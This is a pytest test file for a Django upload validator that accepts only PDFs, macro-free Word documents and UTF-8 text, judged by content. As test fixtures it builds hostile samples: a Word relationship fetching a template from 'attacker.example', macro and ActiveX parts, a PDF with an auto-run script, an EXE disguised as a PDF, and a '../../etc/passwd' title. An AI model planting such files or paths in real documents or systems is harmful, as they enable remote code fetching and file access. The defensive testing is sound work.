"""A document is kept only if its bytes are a PDF, a Word document without macros, or plain text;
whatever the file is called, and with a message that says what to do when it is not."""

import io
import zipfile

import pikepdf
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape

from reps import documents
from reps.models import Document
from tests.conftest import sign_in

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    '{main}"/></Types>'
)
WORD_MAIN = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "vnd.ms-word.document.macroEnabled.main+xml"
RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{rows}</Relationships>"
)
HYPERLINK_ROW = (
    '<Relationship Id="rId1" TargetMode="External" Target="https://www.gov.scot/" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/>'
)
REMOTE_TEMPLATE_ROW = (
    '<Relationship Id="rId2" TargetMode="External" Target="https://attacker.example/t.dotm" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
)
BODY = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Role description</w:t></w:r></w:p></w:body></w:document>"
)


def docx(*, main=WORD_MAIN, extra=(), settings_rels="") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main))
        archive.writestr("word/document.xml", BODY)
        archive.writestr("word/_rels/document.xml.rels", RELATIONSHIPS.format(rows=HYPERLINK_ROW))
        if settings_rels:
            archive.writestr(
                "word/_rels/settings.xml.rels", RELATIONSHIPS.format(rows=settings_rels)
            )
        for name, data in extra:
            archive.writestr(name, data)
    return out.getvalue()


def pdf_with_script() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')")
    )
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def refusal(data: bytes, name: str = "file") -> str:
    with pytest.raises(ValidationError) as refused:
        documents.check_bytes(data, name=name)
    return refused.value.code


# Judged by content


def test_an_exe_called_pdf_is_refused_as_none_of_the_three():
    exe = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64
    assert refusal(exe, "role-description.pdf") == "type"


def test_a_word_document_with_macros_is_refused():
    assert refusal(docx(main=MACRO_MAIN), "code.docm") == "macros"


def test_a_macro_project_under_a_docx_name_is_refused():
    macros = docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro project")])
    assert refusal(macros, "code-of-conduct.docx") == "macros"


def test_a_word_document_that_fetches_a_remote_template_is_refused():
    assert refusal(docx(settings_rels=REMOTE_TEMPLATE_ROW)) == "active"


def test_a_word_document_with_an_activex_control_is_refused():
    assert refusal(docx(extra=[("word/activeX/activeX1.xml", "<ax/>")])) == "active"


def test_a_zip_that_is_not_a_word_document_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("photos/1.txt", "not a document")
    assert refusal(out.getvalue(), "policy.docx") == "not_word"


def test_a_damaged_word_document_is_refused():
    assert refusal(docx()[:200], "policy.docx") == "word_damaged"


def test_an_old_word_document_is_refused_with_what_to_do():
    assert refusal(documents.OLE2 + b"\x00" * 504, "policy.doc") == "old_word"


def test_text_with_a_nul_byte_is_refused_as_not_plain_text():
    assert refusal(b"Glossary\x00of terms\n", "glossary.txt") == "text"


def test_text_that_is_not_utf8_is_refused():
    assert refusal("Caf\u00e9 meeting notes".encode("latin-1"), "notes.txt") == "text"


def test_a_pdf_cut_short_is_refused():
    assert refusal(pdf_with_script()[:-40], "policy.pdf") == "pdf_damaged"


def test_a_word_document_with_a_hyperlink_is_kept_as_it_came():
    data = docx()
    checked = documents.check_bytes(data, name="whatever.bin")
    assert checked.file_type == Document.FileType.WORD
    assert checked.content == data


def test_utf8_text_is_kept_whatever_its_name():
    checked = documents.check_bytes("Glossary: IJB, HSCP, café\n".encode(), name="x.pdf")
    assert checked.file_type == Document.FileType.TEXT


def test_a_pdf_is_kept_without_its_script():
    checked = documents.check_bytes(pdf_with_script(), name="policy.txt")
    assert checked.file_type == Document.FileType.PDF
    with pikepdf.open(io.BytesIO(checked.content)) as kept:
        assert "/OpenAction" not in kept.Root
    assert b"app.alert" not in checked.content


# Through the staff page: a clear message, and nothing else lost


@pytest.fixture
def staff_client(client, staff_a):
    return sign_in(client, staff_a)


def _add(client, board, upload):
    return client.post(
        reverse("reps:staff_document_add"),
        {
            "board": board.pk,
            "title": "Role description for carer representatives",
            "kind": Document.Kind.ROLE_DESCRIPTION,
            "public": "on",
            "file": upload,
        },
    )


@pytest.mark.parametrize(
    ("name", "data", "code"),
    [
        ("role.pdf", b"MZ\x90\x00" + b"\x00" * 60, "type"),
        ("role.docx", docx(extra=[("word/vbaProject.bin", b"macros")]), "macros"),
        ("role.txt", b"Role\x00description", "text"),
    ],
)
def test_a_refused_file_says_why_and_keeps_what_was_typed(staff_client, board_a, name, data, code):
    response = _add(staff_client, board_a, SimpleUploadedFile(name, data))
    assert response.status_code == 200
    assert response.context["form"].errors["file"] == [documents.MESSAGES[code]]
    assert escape(documents.MESSAGES[code]) in response.content.decode()
    # Everything but the file comes back as it was typed.
    form = response.context["form"]
    assert 'value="Role description for carer representatives"' in str(form["title"])
    assert form["kind"].value() == Document.Kind.ROLE_DESCRIPTION
    assert form["public"].value() is True
    assert not Document.objects.exists()


def test_a_file_over_the_limit_is_refused(staff_client, board_a, monkeypatch):
    monkeypatch.setattr(documents, "MAX_BYTES", 100)
    response = _add(staff_client, board_a, SimpleUploadedFile("role.txt", b"a" * 101))
    assert response.context["form"].errors["file"] == [documents.MESSAGES["too_big"]]
    assert "smaller than 10 MB" in response.content.decode()
    assert not Document.objects.exists()


def test_a_good_file_is_added(staff_client, board_a, staff_a):
    response = _add(staff_client, board_a, SimpleUploadedFile("role.docx", docx()))
    assert response.status_code == 302
    document = Document.objects.get()
    assert (document.board, document.file_type, document.public) == (
        board_a,
        Document.FileType.WORD,
        True,
    )
    assert document.file.name.endswith(".docx")
    assert document.uploaded_by == staff_a
    assert document.history.get().history_user == staff_a


@pytest.mark.parametrize(
    ("title", "file_type", "expected"),
    [
        ("Role description: carer rep", "text", "role-description-carer-rep.txt"),
        ("../../etc/passwd", "pdf", "etc-passwd.pdf"),
        ("Code of conduct (2026)", "docx", "code-of-conduct-2026.docx"),
        ("???", "pdf", "document.pdf"),
    ],
)
def test_a_download_is_named_after_its_title_and_what_it_is(title, file_type, expected):
    assert documents.download_name(Document(title=title, file_type=file_type)) == expected
